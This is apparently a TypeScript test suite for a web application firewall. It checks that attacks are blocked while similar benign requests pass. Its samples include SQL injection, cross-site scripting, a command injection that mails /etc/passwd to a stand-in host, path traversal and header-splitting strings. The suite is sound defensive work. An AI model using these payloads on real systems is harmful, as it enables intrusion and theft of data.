import assert from "node:assert/strict"
import { after, before, test } from "node:test"
import { startServer, type Started } from "../../servers/server.ts"
import { oneShop, startRig, statusOf, talk, type Rig } from "./rig.ts"
import { attackSamples, shoppers, visitorAt, VISITS, type Asking } from "./shoppers.ts"

let shop: Started
let reached: string[] = []
before(async () => {
  shop = await startServer((asked, answer) => {
    reached.push(asked.url ?? "")
    asked.resume()
    asked.once("end", () => {
      answer.setHeader("content-type", asked.url === "/broken" ? "text/html" : "text/plain")
      answer.end(asked.url === "/broken" ? "<p>You have an error in your SQL syntax; check the manual" : "ok")
    })
  })
})
after(() => shop.close())

const withRig = async (
  waf: string,
  work: (rig: Rig, ask: ReturnType<typeof visitorAt>["ask"]) => Promise<void>,
): Promise<void> => {
  const rig = await startRig(oneShop(shop.url, `guards: { waf: ${waf} }`, "trusted-proxies: [127.0.0.1]"))
  const visitor = visitorAt(rig.port)
  reached = []
  try {
    await work(rig, visitor.ask)
  } finally {
    visitor.close()
    await rig.close()
  }
}

/** An attack of each class, and its honest twin: as like it as an honest visitor's can be. */
const TWINS: readonly (readonly [reason: string, attack: Asking, twin: Asking])[] = [
  ["waf.sql-injection", { path: "/search?q=1%27%20OR%20%271%27%3D%271" }, { path: "/search?q=rock%20%27n%27%20roll%20or%20jazz" }],
  ["waf.script", { path: "/contact", form: { comment: "<script>alert(document.cookie)</script>" } }, { path: "/contact", form: { comment: "大きさは 5 < 10 で、<3 と書きました" } }],
  ["waf.command", { path: "/contact", form: { name: "a; cat /etc/passwd | mail x@evil.test" } }, { path: "/contact", form: { name: "Cat & Dog; 3階 | 東棟" } }],
  ["waf.path", { path: "/download?file=../../../../etc/passwd" }, { path: "/download?file=catalog-2026..pdf" }],
  ["waf.header", { path: "/go?to=/x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK" }, { path: "/contact", form: { comment: "一行目\r\n二行目: Set-Cookie の話" } }],
  ["waf.sql-injection", { path: "/api/orders", json: { note: "x' UNION SELECT email, password FROM customer --" } }, { path: "/api/orders", json: { note: "Union Station で select した品" } }],
] // prettier-ignore

for (const [reason, attack, twin] of TWINS)
  test(`${reason} is refused before the shop sees it, its honest twin passes: ${twin.path}`, async () => {
    await withRig("{ mode: enforce }", async (rig, ask) => {
      assert.equal((await ask({ ...attack, from: "203.0.113.9" })).status, 403)
      assert.deepEqual(reached, [])
      const event = rig.events().at(-1)
      assert.equal(event?.reason, reason)
      assert.ok(event?.rules?.some(({ id }) => id > 0))
      assert.doesNotMatch(JSON.stringify(event), /passwd|alert\(|UNION/, "no value stands in an event")
      assert.equal((await ask({ ...twin, from: "203.0.113.9" })).status, 200)
      assert.deepEqual(reached, [twin.path])
    })
  })

test("an attack in a cookie, a header and the path is seen too", async () => {
  await withRig("{ mode: enforce }", async (_rig, ask) => {
    const sql = "1' UNION SELECT password FROM customer--"
    const tries: readonly Asking[] = [
      { path: "/", headers: { Cookie: `seen=${encodeURIComponent(sql)}` } },
      { path: "/", headers: { Referer: `https://x.test/?q=<script>alert(1)</script>` } },
      { path: "/a/%3Cimg%20src=x%20onerror=alert(1)%3E" },
    ]
    for (const one of tries) assert.equal((await ask(one)).status, 403, JSON.stringify(one))
    assert.deepEqual(reached, [])
  })
})

test("200 honest shoppers between 500 attacks: none of them is refused", { timeout: 120_000 }, async () => {
  await withRig("{ mode: enforce }", async (rig, ask) => {
    const attacks = attackSamples()
    const refused: string[] = []
    const attacking = (async () => {
      for (const [at, { value }] of attacks.entries()) {
        const { status } = await ask({ path: "/contact", form: { q: value }, from: `203.0.113.${at % 250}` })
        if (status === 403) refused.push(value)
      }
    })()
    const statuses = await shoppers(rig.port, 200)
    await attacking
    assert.deepEqual([...statuses], [[200, 200 * VISITS]])
    assert.ok(refused.length >= attacks.length * 0.95, `${refused.length} of ${attacks.length} were refused`)
    assert.equal(reached.length, 200 * VISITS + attacks.length - refused.length)
  })
})

test("observed: everything passes and is written down with its rules", async () => {
  await withRig("{ mode: observe }", async (rig, ask) => {
    assert.equal((await ask({ path: "/search?q=1%27%20OR%20%271%27%3D%271" })).status, 200)
    const event = rig.events().at(-1)
    assert.deepEqual([event?.decision, event?.reason], ["observe", "waf.sql-injection"])
    assert.deepEqual(event?.rules?.[0]?.at, ["ARGS:q"])
  })
})

test("a body longer than the rules are shown: text is refused, files are looked at as far as they go", async () => {
  const long = "あ".repeat(1_000)
  const multipart = (head: string, padding: number): Asking => ({
    path: "/upload",
    method: "POST",
    body: Buffer.from(
      `--b\r\nContent-Disposition: form-data; name="title"\r\n\r\n${head}\r\n--b\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${"j".repeat(padding)}\r\n--b--\r\n`,
    ),
    headers: { "Content-Type": "multipart/form-data; boundary=b" },
  })
  await withRig("{ mode: enforce, body-bytes: 2048 }", async (rig, ask) => {
    assert.equal((await ask({ path: "/contact", form: { comment: long } })).status, 413)
    assert.equal(rig.events().at(-1)?.reason, "waf.body-too-long")
    assert.equal((await ask(multipart("夏の新作", 5_000))).status, 200)
    assert.equal((await ask(multipart("<script>alert(1)</script>", 5_000))).status, 403)
    assert.equal((await ask(multipart("<script>alert(1)</script>", 10))).status, 403)
  })
  await withRig("{ mode: enforce, body-bytes: 2048, over: pass, over-files: refuse }", async (rig, ask) => {
    assert.equal((await ask({ path: "/contact", form: { comment: long } })).status, 200)
    assert.equal((await ask({ path: "/contact", form: { q: "<script>alert(1)</script>", comment: long } })).status, 403)
    assert.equal((await ask(multipart("夏の新作", 5_000))).status, 413)
    assert.equal(rig.events().at(-1)?.reason, "waf.files-too-long")
  })
})

test("answers are shown to the rules where that is wished", async () => {
  await withRig("{ mode: enforce, answers: true }", async (rig, ask) => {
    assert.equal((await ask({ path: "/fine" })).status, 200)
    assert.equal((await ask({ path: "/broken" })).status, 503)
    assert.equal(rig.events().at(-1)?.reason, "waf.leak")
  })
  await withRig("{ mode: enforce }", async (_rig, ask) => {
    assert.equal((await ask({ path: "/broken" })).status, 200)
  })
})

test("a WebSocket's first request goes past the rules as well", async () => {
  await withRig("{ mode: enforce }", async (rig) => {
    const upgrade = (target: string): string =>
      `GET ${target} HTTP/1.1\r\nHost: shop.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`
    const { text } = await talk(rig.port, upgrade("/live?q=1%27%20OR%20%271%27%3D%271"))
    assert.equal(statusOf(text), 403)
    assert.deepEqual(reached, [])
  })
})
